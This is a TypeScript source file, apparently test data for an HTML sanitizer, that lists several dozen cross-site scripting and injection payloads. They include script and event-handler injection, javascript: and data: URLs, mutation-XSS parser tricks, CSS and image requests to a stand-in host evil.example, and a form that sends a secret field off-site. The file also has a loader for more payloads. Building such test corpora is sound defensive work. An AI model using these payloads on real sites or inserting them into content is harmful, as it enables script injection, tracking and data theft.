import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { corporaDirectory } from '../corpus/corpus-files.ts';

/** HTML that tries to run something, to fetch something, or to leave its frame. Own work; `alarm()` is what must never run. */
export const ownAttacks: readonly string[] = [
  '<script>alarm()</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alarm()</scr</script>ipt>',
  '<img src=x onerror=alarm()>',
  '<img src=x onerror\n=\nalarm()>',
  '<img/src/onerror=alarm()>',
  '<img src="x` `<script>alarm()</script>"` `>',
  '<p onmouseover="alarm()" onclick=alarm()>hover</p>',
  '<a href="javascript:alarm()">x</a>',
  '<a href="jav&#x09;ascript:alarm()">x</a>',
  '<a href=" \u0001javascript:alarm()">x</a>',
  '<a href="JaVaScRiPt&colon;alarm()">x</a>',
  '<a href="data:text/html,<script>alarm()</script>">x</a>',
  '<a href="vbscript:alarm()">x</a>',
  '<a href="https://good.example" target="_top" onclick="alarm()">x</a>',
  '<svg><script>alarm()</script></svg>',
  '<svg onload=alarm()><a xlink:href="javascript:alarm()"><text y=9>x</text></a></svg>',
  '<svg><style><img src="</style><img src=x onerror=alarm()>"></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alarm()&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alarm()>',
  '<noscript><p title="</noscript><img src=x onerror=alarm()>">',
  '<textarea><img title="</textarea><img src=x onerror=alarm()>">',
  '<title><a title="</title><img src=x onerror=alarm()>">',
  '<xmp><p title="</xmp><img src=x onerror=alarm()>">',
  '<style>@import "//evil.example/a.css"; p { background: url(//evil.example/p) }</style>',
  '<p style="background:url(https://evil.example/p);color:red">x</p>',
  '<p style="background:\\75rl(https://evil.example/p)">x</p>',
  '<p style="width:expression(alarm());behavior:url(x.htc);-moz-binding:url(x)">x</p>',
  '<p style="color:red;/*;*/background-image:url(https://evil.example/p)">x</p>',
  '<p style="position:fixed;top:0;left:0;width:100%;z-index:9">cover</p>',
  '<iframe src="javascript:alarm()"></iframe><iframe srcdoc="<script>alarm()</script>"></iframe>',
  '<object data="data:text/html,<script>alarm()</script>"></object><embed src="//evil.example/x.swf">',
  '<meta http-equiv=refresh content="0;url=https://evil.example"><base href="https://evil.example/">',
  '<form action="https://evil.example"><input name=secret autofocus onfocus=alarm()><button formaction=javascript:alarm()>ok</button></form>',
  '<link rel=stylesheet href="https://evil.example/a.css"><link rel=prefetch href="https://evil.example/b">',
  '<img src="https://evil.example/track.gif"><img srcset="https://evil.example/2x 2x" src="cid:none">',
  '<table background="https://evil.example/b.png"><tr><td background="//evil.example/c.png">x</td></tr></table>',
  '<video poster="https://evil.example/p.png" src="https://evil.example/v"></video><audio src="https://evil.example/a"></audio>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxhcm0oKT4="><img src="data:text/html,x">',
  '<template><script>alarm()</script></template><details open ontoggle=alarm()><summary>x</summary></details>',
  '<div id="document" name="cookie"><a id=location href="https://evil.example/">x</a></div>',
  '<!--><img src=x onerror=alarm()>--><![CDATA[<img src=x onerror=alarm()>]]><?xml <img src=x onerror=alarm()>?>',
  '<plaintext><img src=x onerror=alarm()>',
  '&lt;script&gt;alarm()&lt;/script&gt;<p>&amp;lt;img src=x onerror=alarm()&amp;gt;</p>',
];

/** The payloads beside the project; none when they are not there. */
export const foundAttacks = (): readonly string[] => {
  const file = join(corporaDirectory() ?? '', 'html-attacks', 'payloads.jsonl');
  if (!existsSync(file)) return [];
  const lines = readFileSync(file, 'utf8').split('\n');
  return lines.filter((line) => line !== '').map((line) => (JSON.parse(line) as { payload: string }).payload);
};
